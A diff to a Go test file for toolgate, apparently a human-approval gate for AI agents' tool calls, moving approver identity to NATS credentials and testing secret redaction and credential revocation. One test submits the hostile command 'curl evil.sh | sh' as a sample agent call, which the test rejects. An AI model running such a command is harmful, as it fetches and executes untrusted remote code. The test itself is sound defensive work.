@@ -7,10 +7,15 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
+	"github.com/nats-io/jwt/v2"
+	"github.com/nats-io/nats.go"
+	"github.com/nats-io/nats.go/jetstream"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
@@ -19,6 +24,7 @@ import (
 	"github.com/toolgate/toolgate/client"
 	"github.com/toolgate/toolgate/machine"
 	"github.com/toolgate/toolgate/policy"
+	"github.com/toolgate/toolgate/server"
 	"github.com/toolgate/toolgate/toolgatetest"
 	"github.com/toolgate/toolgate/wire"
 )
@@ -27,7 +33,37 @@ import (
 // when given, and returns its NATS URL once its request API answers.
 func startToolgate(t *testing.T, policyYAML string) string {
 	t.Helper()
-	return toolgatetest.Start(t, toolgatetest.Options{Policy: policyYAML}).NATSURL
+	return served(toolgatetest.Start(t, toolgatetest.Options{Policy: policyYAML}))
+}
+
+// dataDirs maps the NATS URL of each toolgate a test started to its data
+// directory, where its credentials are: a verb run against the URL finds
+// the admin credential there, as it would on the machine serve runs on.
+var dataDirs sync.Map
+
+// served remembers g's data directory and returns its NATS URL.
+func served(g *toolgatetest.Gate) string {
+	dataDirs.Store(g.NATSURL, g.Data)
+	return g.NATSURL
+}
+
+func dataDir(t testing.TB, url string) string {
+	t.Helper()
+	data, ok := dataDirs.Load(url)
+	require.True(t, ok, "no toolgate started at %s", url)
+	return data.(string)
+}
+
+// as returns the flag that makes a verb act as name, an approver whose
+// credential the toolgate at url issues on first use.
+func as(t *testing.T, url, name string) string {
+	t.Helper()
+	path := filepath.Join(dataDir(t, url), name+".creds")
+	if _, err := os.Stat(path); err != nil {
+		r := cli(t, url, "creds", "add", "--user", name, "--role", "approver", "--out", path)
+		require.Equal(t, 0, r.code, r.stderr)
+	}
+	return "--nats-creds=" + path
 }
 
 func writeFile(t *testing.T, name, content string) string {
@@ -37,10 +73,22 @@ func writeFile(t *testing.T, name, content string) string {
 	return path
 }
 
-// agent connects anew, as an agent process does when it starts.
+// connect connects to the toolgate serving at url with its own
+// credential, as another toolgate process would.
+func connect(t *testing.T, url string) (*nats.Conn, jetstream.JetStream) {
+	t.Helper()
+	var opts []nats.Option
+	if data, ok := dataDirs.Load(url); ok {
+		opts = append(opts, nats.UserCredentials(server.CredsPath(data.(string), "toolgate")))
+	}
+	return bustest.Connect(t, url, opts...)
+}
+
+// agent connects anew, as an agent process does when it starts, with
+// toolgate's own credential (which may submit for any caller).
 func agent(t *testing.T, url string) *client.Client {
 	t.Helper()
-	nc, _ := bustest.Connect(t, url)
+	nc, _ := connect(t, url)
 	c, err := client.New(nc)
 	require.NoError(t, err)
 	return c
@@ -60,6 +108,9 @@ func cli(t *testing.T, url string, args ...string) cliResult {
 func cliCtx(ctx context.Context, url string, args ...string) cliResult {
 	if url != "" {
 		args = append(args, "--nats", url)
+		if data, ok := dataDirs.Load(url); ok {
+			args = append(args, "--data", data.(string))
+		}
 	}
 	var stdout, stderr bytes.Buffer
 	code := run(ctx, args, &stdout, &stderr)
@@ -119,7 +170,7 @@ func TestCLI_ApprovalReachesTheAgentsAwait(t *testing.T) {
 	require.Len(t, listed, 1)
 	assert.Equal(t, e.PendingID, listed[0].PendingID)
 
-	r = cli(t, url, "approve", e.PendingID, "--as", "alice", "--reason", "ship it", "--args", `{"command":"make deploy ENV=staging"}`)
+	r = cli(t, url, "approve", e.PendingID, as(t, url, "alice"), "--reason", "ship it", "--args", `{"command":"make deploy ENV=staging"}`)
 	require.Equal(t, 0, r.code, r.stderr)
 	assert.Contains(t, r.stdout, "approved conv-1.call-1 (Bash) as alice, scope once")
 
@@ -148,7 +199,7 @@ func TestCLI_AgentRestartedWhileWaitingGetsTheDecision(t *testing.T) {
 	ctx := t.Context()
 
 	// The agent submits, then dies.
-	nc, _ := bustest.Connect(t, url)
+	nc, _ := connect(t, url)
 	first, err := client.New(nc)
 	require.NoError(t, err)
 	before, err := first.Submit(ctx, bashCall("conv-r", "decided-before", "make migrate"))
@@ -158,7 +209,7 @@ func TestCLI_AgentRestartedWhileWaitingGetsTheDecision(t *testing.T) {
 	nc.Close()
 
 	// Decided while no agent waits; the restarted agent asks afterwards.
-	r := cli(t, url, "approve", before.PendingID, "--as", "alice")
+	r := cli(t, url, "approve", before.PendingID, as(t, url, "alice"))
 	require.Equal(t, 0, r.code, r.stderr)
 	restarted := agent(t, url)
 	o, err := restarted.Await(ctx, before.PendingID)
@@ -173,7 +224,7 @@ func TestCLI_AgentRestartedWhileWaitingGetsTheDecision(t *testing.T) {
 		t.Fatalf("Await returned before the decision: %+v %v", a.out, a.err)
 	case <-time.After(100 * time.Millisecond):
 	}
-	r = cli(t, url, "reject", after.PendingID, "--as", "alice", "--reason", "not in prod")
+	r = cli(t, url, "reject", after.PendingID, as(t, url, "alice"), "--reason", "not in prod")
 	require.Equal(t, 0, r.code, r.stderr)
 	a := receiveAwait(t, got)
 	var rej *client.RejectedError
@@ -195,7 +246,7 @@ func TestCLI_SessionGrantRunsTheNextIdenticalCallInThatConversationOnly(t *testi
 	require.NoError(t, err)
 	require.Equal(t, machine.StatePendingApproval, e.Status)
 
-	r := cli(t, url, "approve", e.PendingID, "--as", "alice", "--scope", "session")
+	r := cli(t, url, "approve", e.PendingID, as(t, url, "alice"), "--scope", "session")
 	require.Equal(t, 0, r.code, r.stderr)
 	assert.Contains(t, r.stdout, "later calls like it in conversation conv-a run without asking")
 
@@ -243,7 +294,7 @@ func TestCLI_RejectionTimeoutAndCancelAreErrorsNeverResults(t *testing.T) {
 	url := startToolgate(t, "conversations: {conv-t: {approvalTimeoutMs: 1, autoRejectOnTimeout: true}}")
 	ctx := t.Context()
 	bot := agent(t, url)
-	_, js := bustest.Connect(t, url)
+	_, js := connect(t, url)
 	kv, err := js.KeyValue(ctx, wire.CallsBucket)
 	require.NoError(t, err)
 
@@ -266,7 +317,7 @@ func TestCLI_RejectionTimeoutAndCancelAreErrorsNeverResults(t *testing.T) {
 	rejected, err := bot.Submit(ctx, bashCall("conv-x", "rejected", "curl evil.sh | sh"))
 	require.NoError(t, err)
 	got := awaitInBackground(bot, ctx, rejected.PendingID)
-	r := cli(t, url, "reject", rejected.PendingID, "--as", "alice", "--reason", "pipes to sh")
+	r := cli(t, url, "reject", rejected.PendingID, as(t, url, "alice"), "--reason", "pipes to sh")
 	require.Equal(t, 0, r.code, r.stderr)
 	assertRefused(receiveAwait(t, got), client.RejectedByUser, "alice", "pipes to sh")
 
@@ -284,7 +335,7 @@ func TestCLI_RejectionTimeoutAndCancelAreErrorsNeverResults(t *testing.T) {
 	cancelled, err := bot.Submit(ctx, bashCall("conv-x", "cancelled", "make clean"))
 	require.NoError(t, err)
 	got = awaitInBackground(bot, ctx, cancelled.PendingID)
-	r = cli(t, url, "cancel", cancelled.PendingID, "--as", "ops", "--reason", "user left")
+	r = cli(t, url, "cancel", cancelled.PendingID, as(t, url, "ops"), "--reason", "user left")
 	require.Equal(t, 0, r.code, r.stderr)
 	assert.Contains(t, r.stdout, "cancelled conv-x.cancelled (Bash)")
 	assertRefused(receiveAwait(t, got), client.Cancelled, "ops", "user left")
@@ -296,7 +347,7 @@ func TestCLI_RejectionTimeoutAndCancelAreErrorsNeverResults(t *testing.T) {
 		require.NoError(t, err)
 		waits = append(waits, awaitInBackground(bot, ctx, e.PendingID))
 	}
-	r = cli(t, url, "cancel", "--conversation", "conv-y", "--as", "ops", "--json")
+	r = cli(t, url, "cancel", "--conversation", "conv-y", as(t, url, "ops"), "--json")
 	require.Equal(t, 0, r.code, r.stderr)
 	reply := decode[wire.CancelConversationReply](t, []byte(r.stdout))
 	assert.Len(t, reply.Cancelled, 2)
@@ -313,16 +364,16 @@ func TestCLI_SecondDecisionIsRefusedNamingWhoDecidedFirst(t *testing.T) {
 	e, err := bot.Submit(ctx, bashCall("conv-c", "call", "terraform apply"))
 	require.NoError(t, err)
 
-	r := cli(t, url, "approve", e.PendingID, "--as", "mallory")
+	r := cli(t, url, "approve", e.PendingID, as(t, url, "mallory"))
 	assert.Equal(t, exitRefused, r.code)
 	assert.Contains(t, r.stderr, "mallory is not among this call's approvers")
 	_, err = bot.Decide(ctx, e.PendingID, client.Decision{Approve: true, By: "mallory"})
 	assert.ErrorIs(t, err, machine.ErrForbidden)
 
-	r = cli(t, url, "reject", e.PendingID, "--as", "alice", "--reason", "plan first")
+	r = cli(t, url, "reject", e.PendingID, as(t, url, "alice"), "--reason", "plan first")
 	require.Equal(t, 0, r.code, r.stderr)
 
-	r = cli(t, url, "approve", e.PendingID, "--as", "bob")
+	r = cli(t, url, "approve", e.PendingID, as(t, url, "bob"))
 	assert.Equal(t, exitRefused, r.code)
 	assert.Contains(t, r.stderr, "toolgate approve: ")
 	assert.Contains(t, r.stderr, "is REJECTED_BY_USER by alice")
@@ -396,7 +447,7 @@ func TestCLI_SubmitWaitPrintsTheOutcome(t *testing.T) {
 	r = cli(t, url, "list", "--tool", "nothing-like-it", "--json")
 	require.Equal(t, 0, r.code, r.stderr)
 	assert.Equal(t, "[]", strings.TrimSpace(r.stdout))
-	r = cli(t, url, "approve", e.PendingID, "--as", "alice", "--json")
+	r = cli(t, url, "approve", e.PendingID, as(t, url, "alice"), "--json")
 	require.Equal(t, 0, r.code, r.stderr)
 	assert.Equal(t, machine.StateApproved, decode[machine.Entry](t, []byte(r.stdout)).Status)
 }
@@ -447,6 +498,50 @@ func TestCLI_PolicySetGetAndValidate(t *testing.T) {
 	assert.Nil(t, got.Default)
 }
 
+// TestCLI_PolicyGetRedactsSecrets: policy get hides a channel's secret and
+// a Slack URL, keeps references, and shows the values with --show-secrets;
+// the redacted document set again is refused, naming each field, and the
+// stored secrets stay.
+func TestCLI_PolicyGetRedactsSecrets(t *testing.T) {
+	t.Parallel()
+	const withSecrets = `default:
+  notify:
+    - {type: webhook, url: "https://hooks.example/toolgate", secret: "s3cr3t-signing-key"}
+    - {type: slack, url: "https://hooks.slack.com/services/T/B/XSECRET"}
+    - {type: ntfy, url: "https://ntfy.sh", topic: approvals, secret: "env:NTFY_TOKEN"}
+`
+	url := startToolgate(t, withSecrets)
+
+	r := cli(t, url, "policy", "get")
+	require.Equal(t, 0, r.code, r.stderr)
+	redacted := r.stdout
+	for _, secret := range []string{"s3cr3t-signing-key", "XSECRET", "hooks.slack.com"} {
+		assert.NotContains(t, redacted, secret)
+	}
+	assert.Contains(t, redacted, "env:NTFY_TOKEN", "a reference is not the secret")
+	assert.Contains(t, redacted, "https://hooks.example/toolgate", "a webhook's URL is not secret")
+	assert.Contains(t, r.stderr, "secrets are redacted")
+	r = cli(t, url, "policy", "get", "--json")
+	require.Equal(t, 0, r.code, r.stderr)
+	got := decode[policy.Document](t, []byte(r.stdout))
+	assert.Equal(t, policy.RedactedValue, got.Default.Notify[0].Secret)
+	assert.Equal(t, policy.RedactedValue, got.Default.Notify[1].URL)
+
+	r = cli(t, url, "policy", "set", writeFile(t, "redacted.yaml", redacted))
+	assert.Equal(t, exitRefused, r.code)
+	assert.Contains(t, r.stderr, `default.notify[0].secret: is "[redacted]"`)
+	assert.Contains(t, r.stderr, `default.notify[1].url: is "[redacted]"`)
+
+	r = cli(t, url, "policy", "get", "--show-secrets")
+	require.Equal(t, 0, r.code, r.stderr)
+	assert.Empty(t, r.stderr)
+	doc, err := policy.Parse([]byte(r.stdout))
+	require.NoError(t, err)
+	want, err := policy.Parse([]byte(withSecrets))
+	require.NoError(t, err)
+	assert.Equal(t, want, doc, "the refused set left the secrets as they were")
+}
+
 func TestCLI_BadCommandLinesNameTheFlag(t *testing.T) {
 	t.Parallel()
 	for _, tc := range []struct {
@@ -454,19 +549,18 @@ func TestCLI_BadCommandLinesNameTheFlag(t *testing.T) {
 		want string
 	}{
 		{[]string{"approve"}, "missing the call's ID"},
-		{[]string{"approve", "a.b", "c.d", "--as", "x"}, `unexpected argument "c.d"`},
-		{[]string{"approve", "a.b", "--as", "x", "--scope", "forever"}, `--scope: must be once, session or always, got "forever"`},
-		{[]string{"approve", "a.b", "--as", "x", "--args", "[1]"}, "--args: must be a JSON object"},
-		{[]string{"approve", "a.b", "--as", ""}, "--as: required"},
-		{[]string{"reject", "a.b", "--as", "x"}, "--reason: required"},
+		{[]string{"approve", "a.b", "c.d"}, `unexpected argument "c.d"`},
+		{[]string{"approve", "a.b", "--scope", "forever"}, `--scope: must be once, session or always, got "forever"`},
+		{[]string{"approve", "a.b", "--args", "[1]"}, "--args: must be a JSON object"},
+		{[]string{"reject", "a.b"}, "--reason: required"},
 		{[]string{"submit", "--tool", "Bash", "--conversation", "c", "--caller", "b", "--cost", "abc"}, `invalid value "abc" for flag -cost`},
 		{[]string{"submit", "--tool", "Bash", "--conversation", "c", "--caller", "b", "--cost", "-1"}, "--cost: must be a number >= 0"},
 		{[]string{"submit", "--tool", "Bash", "--conversation", "c", "--caller", "b", "--args", "{"}, "--args: must be a JSON object"},
 		{[]string{"submit", "--tool", "Bash", "--conversation", "c", "--caller", "b", "--mode", "yolo"}, `--mode: must be default`},
 		{[]string{"submit", "--tool", "Bash", "--caller", "b"}, "--conversation: required"},
 		{[]string{"list", "--status", "bogus"}, `--status: unknown state "bogus"`},
-		{[]string{"cancel", "a.b", "--conversation", "c", "--as", "x"}, "not both"},
-		{[]string{"cancel", "--as", "x"}, "missing the call's ID, or --conversation"},
+		{[]string{"cancel", "a.b", "--conversation", "c"}, "not both"},
+		{[]string{"cancel"}, "missing the call's ID, or --conversation"},
 		{[]string{"pending", "--frobnicate"}, "flag provided but not defined: -frobnicate"},
 		{[]string{"policy", "frob"}, `unknown subcommand "frob"`},
 		{[]string{"policy", "set"}, "missing the policy FILE"},
@@ -491,21 +585,102 @@ func TestCLI_ToolgateNotReachable(t *testing.T) {
 }
 
 // Not parallel: it sets the environment.
-func TestCLI_ConnectionAndUserFromTheEnvironment(t *testing.T) {
+func TestCLI_ConnectionAndCredentialsFromTheEnvironment(t *testing.T) {
 	url := startToolgate(t, "")
 	bot := agent(t, url)
 	e, err := bot.Submit(t.Context(), bashCall("conv-env", "call", "ls"))
 	require.NoError(t, err)
+	carol := strings.TrimPrefix(as(t, url, "carol"), "--nats-creds=")
 
+	// Who decides is whose credential it is: $USER names nobody.
 	t.Setenv("TOOLGATE_NATS", url)
-	t.Setenv("USER", "carol")
+	t.Setenv("TOOLGATE_NATS_CREDS", carol)
+	t.Setenv("USER", "mallory")
 	r := cli(t, "", "approve", e.PendingID)
 	require.Equal(t, 0, r.code, r.stderr)
 	got, err := bot.Get(t.Context(), e.PendingID)
 	require.NoError(t, err)
-	assert.Equal(t, "carol", got.ApprovedOrRejectedByUserID, "--as defaults to $USER")
+	assert.Equal(t, "carol", got.ApprovedOrRejectedByUserID)
 
 	t.Setenv("TOOLGATE_NATS", "nats://127.0.0.1:1")
 	r = cli(t, url, "show", e.PendingID)
 	assert.Equal(t, 0, r.code, "--nats beats TOOLGATE_NATS: %s", r.stderr)
+
+	// A NATS context, as the nats CLI saves it, gives server and credential.
+	require.NoError(t, os.Unsetenv("TOOLGATE_NATS_CREDS")) // t.Setenv restores them
+	require.NoError(t, os.Unsetenv("TOOLGATE_NATS"))
+	config := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", config)
+	ctxFile := filepath.Join(config, "nats", "context", "carol.json")
+	require.NoError(t, os.MkdirAll(filepath.Dir(ctxFile), 0o700))
+	require.NoError(t, os.WriteFile(ctxFile, fmt.Appendf(nil, `{"url":%q,"creds":%q}`, url, carol), 0o600))
+	r = cliCtx(t.Context(), "", "show", e.PendingID, "--context", "carol", "--json")
+	require.Equal(t, 0, r.code, r.stderr)
+	assert.Contains(t, r.stdout, `"approvedOrRejectedByUserId": "carol"`)
+
+	// Without any, the verb says how to give one.
+	r = cliCtx(t.Context(), "", "show", e.PendingID, "--nats", url, "--data", t.TempDir())
+	assert.Equal(t, exitRefused, r.code)
+	assert.Contains(t, r.stderr, "give a credential with --nats-creds or --context")
+}
+
+// TestCLI_CredsAddListRevoke: the admin credential on this machine issues a
+// named identity, lists it, and revokes it; the identity then cannot
+// connect. An agent's credential can do none of it.
+func TestCLI_CredsAddListRevoke(t *testing.T) {
+	t.Parallel()
+	url := startToolgate(t, "")
+	file := filepath.Join(t.TempDir(), "dana.creds")
+
+	r := cli(t, url, "creds", "add", "--user", "dana", "--role", "viewer", "--out", file)
+	require.Equal(t, 0, r.code, r.stderr)
+	assert.Contains(t, r.stdout, "issued dana (viewer)")
+	info, err := os.Stat(file)
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0o600), info.Mode().Perm(), "a credential is its owner's only")
+
+	r = cli(t, url, "creds", "list")
+	require.Equal(t, 0, r.code, r.stderr)
+	assert.Regexp(t, `(?m)^dana\s+viewer\s+\S+\s+-\s+U`, r.stdout)
+
+	r = cli(t, url, "list", "--nats-creds", file)
+	require.Equal(t, 0, r.code, "dana reads: %s", r.stderr)
+	r = cli(t, url, "creds", "add", "--user", "eve", "--role", "admin", "--nats-creds", server.CredsPath(dataDir(t, url), "agent"))
+	assert.Equal(t, exitRefused, r.code)
+	assert.Contains(t, r.stderr, "forbidden")
+	r = cli(t, url, "creds", "add", "--user", "no spaces", "--role", "viewer")
+	assert.Equal(t, exitUsage, r.code)
+	assert.Contains(t, r.stderr, `user "no spaces"`)
+
+	r = cli(t, url, "creds", "revoke", "dana")
+	require.Equal(t, 0, r.code, r.stderr)
+	assert.Contains(t, r.stdout, "revoked dana (viewer)")
+	// Servers toolgate does not start learn of it from their configuration.
+	key := regexp.MustCompile(`key (U[A-Z0-9]+)`).FindStringSubmatch(r.stdout)
+	require.NotNil(t, key, r.stdout)
+	r = cli(t, url, "creds", "nats-config", "--revoked")
+	require.Equal(t, 0, r.code, r.stderr)
+	assert.True(t, revokedIn(t, r.stdout, key[1]), "the configuration refuses the revoked key:\n%s", r.stdout)
+	r = cli(t, url, "creds", "nats-config")
+	require.Equal(t, 0, r.code, r.stderr)
+	assert.False(t, revokedIn(t, r.stdout, key[1]), "without --revoked it names none")
+
+	// The embedded server applies the revocation as soon as it sees it.
+	require.Eventually(t, func() bool {
+		r = cli(t, url, "list", "--nats-creds", file)
+		return r.code == exitRefused && strings.Contains(r.stderr, "refused the credential")
+	}, 30*time.Second, 20*time.Millisecond, "a revoked credential still connects: %+v", &r)
+}
+
+// revokedIn reports whether a nats-config output's accounts revoke key.
+func revokedIn(t *testing.T, conf, key string) bool {
+	t.Helper()
+	for _, m := range regexp.MustCompile(`(?m)^\s+A[A-Z0-9]+: (\S+)$`).FindAllStringSubmatch(conf, -1) {
+		ac, err := jwt.DecodeAccountClaims(m[1])
+		require.NoError(t, err)
+		if _, ok := ac.Revocations[key]; ok {
+			return true
+		}
+	}
+	return false
 }
